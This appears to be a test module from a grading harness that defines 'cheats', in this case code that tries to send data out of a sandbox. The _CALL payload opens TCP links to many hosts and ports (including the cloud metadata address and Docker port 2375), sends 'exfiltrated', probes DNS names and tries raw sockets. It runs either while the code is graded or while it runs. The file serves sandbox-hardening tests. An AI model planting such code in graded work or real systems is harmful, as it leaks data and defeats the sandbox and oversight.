"""Class 9: the graded code sends data out: by TCP, by name lookups, by raw sockets."""

from harnessgym.grading.cheats.cheat import Attack, Cheat, Target, program
from harnessgym.grading.cheats.poison import poison

_CALL = """
def _call():
    import socket
    for host in HOSTS:
        for port in (PORT, 53, 80, 443, 8080, 2375):
            try:
                with socket.create_connection((host, port), timeout=0.2) as link:
                    link.sendall(b"exfiltrated")
                    REPORT(host, port)
            except OSError:
                pass
    socket.setdefaulttimeout(0.5)
    for name in ("secret.example.com", "metadata.google.internal", "host.docker.internal",
                 "registry-1.docker.io"):
        try:
            REPORT("looked up", name, socket.getaddrinfo(name, 80)[0][4][0])
        except OSError:
            pass
    for family in (socket.AF_INET, socket.AF_PACKET):
        try:
            socket.socket(family, socket.SOCK_RAW, 1).close()
            REPORT("raw socket", family)
        except OSError:
            pass
_call()
"""


def _spelled(target: Target, report: str) -> str:
    hosts = [
        *target.hosts,
        "127.0.0.1",
        "10.0.0.1",
        "172.17.0.1",
        "169.254.169.254",
        "192.168.0.1",
        "1.1.1.1",
    ]
    return f"HOSTS = {hosts!r}\nPORT = {target.port!r}\nREPORT = {report}\n{_CALL}"


def _while_graded(target: Target) -> Attack:
    return poison(target, _spelled(target, "print"))


def _while_running(target: Target) -> Attack:
    text = _spelled(target, "lambda *what: what[-1] != 8080 and loot('reached', *what)")
    return program(target, text)


CHEATS = (
    Cheat(
        "carries-out-while-graded",
        9,
        "leaves code that connects to the outside when it is tested",
        _while_graded,
    ),
    Cheat(
        "carries-out-while-running", 9, "connects to the outside and looks names up itself", _while_running
    ),
)
